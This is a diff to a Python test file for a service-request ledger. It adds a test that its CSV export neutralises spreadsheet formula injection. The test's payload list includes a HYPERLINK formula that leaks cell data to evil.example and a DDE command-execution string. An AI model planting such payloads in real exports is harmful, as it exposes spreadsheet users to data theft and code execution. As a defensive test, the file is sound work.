@@ -670,6 +670,7 @@ def write_rows(path: str, worker: int, barrier: Any) -> None:
             ledger.record_status(seen(rid, "open"), observed_at=T0 + timedelta(seconds=n))
 
 
+@pytest.mark.slow
 def test_several_processes_write_one_file_safely(tmp_path: Path) -> None:
     """4 processes x 50 submissions (and 50 status changes) into one file: every row is there
     exactly once and the file passes integrity_check."""
@@ -723,3 +724,52 @@ def test_threads_can_share_one_ledger(ledger: Ledger) -> None:
         thread.join(timeout=60)
     assert not any(t.is_alive() for t in threads)
     assert len(ledger.tracked_ids()) == 100
+
+
+# --- formula injection (issue 12.7) ----------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tindented",
+    "\rreturn",
+]
+
+
+def test_csv_export_neutralises_formulas_from_input_and_from_the_city(ledger: Ledger) -> None:
+    """Every exported cell starting with =, +, -, @, tab or CR gets a leading ' (OWASP), from
+    the report's own fields and from the city's; numbers and JSON Lines stay as they are."""
+    for n, formula in enumerate(FORMULAS):
+        rid = f"f{n}"
+        ledger.record_submission(
+            key=None,
+            request=NewRequest(
+                service_code="001",
+                lat=37.7,
+                long=-122.4,
+                address_string=formula,
+                description=formula,
+            ),
+            endpoint=ENDPOINT,
+            sent_at=T0,
+            receipt=Receipt(service_request_id=rid, service_notice=formula),
+        )
+        ledger.record_status(seen(rid, formula, notes=formula), observed_at=T0)
+    buffer = io.StringIO()
+    assert ledger.export_csv(buffer) == len(FORMULAS)
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        for column in ("service_notice", "status", "status_notes"):  # the city's words
+            assert row[column] == "'" + formula, column
+        for column, cell in row.items():
+            if column not in ("lat", "long"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert row["long"] == "-122.4"  # a negative number is data, not a formula
+    assert rows[0]["description"] == "'" + FORMULAS[0]  # the report's own fields too
+    jsonl = io.StringIO()
+    ledger.export_jsonl(jsonl)
+    first = json.loads(jsonl.getvalue().splitlines()[0])
+    assert first["description"] == FORMULAS[0]  # JSON is not a spreadsheet: kept verbatim
